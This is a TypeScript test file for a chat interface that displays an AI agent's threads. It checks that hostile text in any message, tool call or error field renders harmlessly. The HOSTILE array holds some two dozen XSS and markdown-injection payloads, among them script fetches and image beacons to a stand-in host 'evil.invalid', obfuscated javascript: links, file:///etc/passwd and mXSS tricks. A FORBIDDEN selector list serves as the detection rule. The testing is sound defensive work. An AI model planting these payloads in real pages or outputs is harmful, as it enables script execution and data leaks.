import assert from "node:assert/strict";
import { test } from "node:test";
import { AThread } from "./a-thread.ts";
import type { ChatPage } from "./chat-page.ts";
import { usePages } from "./open-page.ts";
import { publishEachFrame } from "./reader.ts";

/** Every request would go to this address, where nothing answers. */
const EVIL = "https://evil.invalid";

const HOSTILE = [
	"<script>fetch('https://evil.invalid/a')</script>",
	"<img src=https://evil.invalid/b onerror=alert(1)>",
	"![leak](https://evil.invalid/c?secret)",
	"[![badge](https://evil.invalid/d)](https://evil.invalid/e)",
	"<iframe src=https://evil.invalid/f></iframe>",
	"<svg onload=alert(1)><use href=https://evil.invalid/g></svg>",
	"<style>body{background:url(https://evil.invalid/h)}</style>",
	"<link rel=preconnect href=https://evil.invalid><meta http-equiv=refresh content='0;url=https://evil.invalid/i'>",
	"[click](javascript:alert(1))",
	"[click](JaVaScRiPt&#58;alert(1))",
	"[click](\u0001javascript:alert(1))",
	"[click](command:workbench.action.reloadWindow)",
	"[click](vscode://evil/extension)",
	"[click](file:///etc/passwd)",
	"[click](data:text/html,<script>alert(1)</script>)",
	"<a href='https://evil.invalid/j' ping=https://evil.invalid/k>x</a>",
	"<form action=https://evil.invalid/l><button>x</button></form>",
	"[ref]: javascript:alert(1)\n\n[ref]",
	'```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
	"```html\n<script>alert(1)</script><img src=https://evil.invalid/m>\n```",
	"| a |\n| - |\n| <img src=https://evil.invalid/n onerror=alert(1)> |",
	"# <base href=https://evil.invalid>\n\n> <object data=https://evil.invalid/o>",
	"<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
	"[x](https://evil.invalid/p \"title' onmouseover='alert(1)\")",
	"<details open ontoggle=alert(1)><summary>x</summary></details>",
	"&lt;img src=x onerror=alert(1)&gt; \\<script>",
];

const FORBIDDEN =
	"script:not([nonce]), img, iframe, object, embed, svg, math, style, link[rel=preconnect], meta[http-equiv], base, form, [href]:not(head *), [src]:not([nonce]), [ping], [srcdoc], [style*=url], details";

const pages = usePages();

/** Every place in a thread that shows untrusted text. */
function aHostileThread(text: string): AThread {
	const thread = new AThread().turn().ask(text);
	thread.item({ kind: "reasoning", text });
	thread.item({
		kind: "toolCall",
		callId: "c",
		name: text,
		arguments: text,
		title: text,
		status: "failed",
		output: text,
	});
	thread.item({ kind: "notice", level: "warning", text });
	thread.item({ kind: "userMessage", messageKind: text, text });
	thread.add({ type: "warning", code: "w", message: text });
	const fragment = { kind: text, role: "user", origin: text, summary: text, tokens: 1 } as const;
	thread.add({ type: "contextUpdated", fragments: [fragment] });
	thread.answer(text);
	return thread.add({ type: "turnCompleted", status: "failed", error: { code: "server", message: text } });
}

async function openFolds(page: ChatPage): Promise<void> {
	await page.tab.locator('.fold-line[aria-expanded="false"]').evaluateAll((lines) => {
		for (const line of lines) if (line instanceof HTMLElement) line.click();
	});
	await page.painted();
}

/** What must not be there after something hostile was drawn. */
async function findHarm(page: ChatPage) {
	const found = await page.tab.evaluate((forbidden) => {
		const elements = [...document.querySelectorAll(forbidden)];
		const handlers = [...document.querySelectorAll("*")].filter((element) =>
			element.getAttributeNames().some((name) => name.startsWith("on")),
		);
		return [...elements, ...handlers].map((element) => element.outerHTML.slice(0, 120));
	}, FORBIDDEN);
	return { found, strangers: page.strangers, violations: await page.violations(), errors: page.errors };
}

const NO_HARM = { found: [], strangers: [], violations: [], errors: [] };

test("hostile text does no harm anywhere in a thread", async () => {
	const page = await pages.open({ height: 2_000 });
	const harm = [];
	for (const text of HOSTILE) {
		await page.showThread(aHostileThread(text).events, text);
		await page.tell({ type: "problem", message: text });
		await openFolds(page);
		harm.push({ text, ...(await findHarm(page)) });
	}
	assert.deepEqual(
		harm,
		HOSTILE.map((text) => ({ text, ...NO_HARM })),
	);
});

test("hostile text does no harm while it arrives in pieces", async () => {
	const page = await pages.open();
	const thread = new AThread().turn().begin({ kind: "agentMessage", id: "m", text: "" });
	await page.showThread(thread.events);
	const text = HOSTILE.join("\n\n");
	const starts = Array.from({ length: Math.ceil(text.length / 20) }, (_, piece) => piece * 20);
	const deltas = starts.map((start) => thread.delta("m", start, text.slice(start, start + 20)));
	await publishEachFrame(page, deltas);
	await page.painted();
	assert.ok((await page.rowWords()).join("\n").includes("details"), "its end has arrived");
	assert.deepEqual(await findHarm(page), NO_HARM);
});

test("only web links can be clicked; none has an href, and each says where it leads", async () => {
	const page = await pages.open();
	const answer = `[bank](${EVIL}/login) and ${EVIL}/plain and [cmd](command:x) and <https://xn--bcher-kva.invalid/>`;
	await page.showThread(new AThread().turn().answer(answer).events);
	assert.deepEqual(await page.tab.locator("[data-row]").allInnerTexts(), [
		`bank (${EVIL}/login) and ${EVIL}/plain and [cmd](command:x) and https://bücher.invalid/ (https://xn--bcher-kva.invalid/)`,
	]);
	await page.takePosted();
	const links = page.tab.locator("[role=link]");
	await links.nth(0).click();
	await links.nth(1).focus();
	await page.tab.keyboard.press("Enter");
	assert.deepEqual(await page.takePosted(), [
		{ type: "openLink", url: `${EVIL}/login` },
		{ type: "openLink", url: `${EVIL}/plain` },
	]);
	assert.equal(await links.count(), 3);
	assert.deepEqual(await findHarm(page), NO_HARM);
});
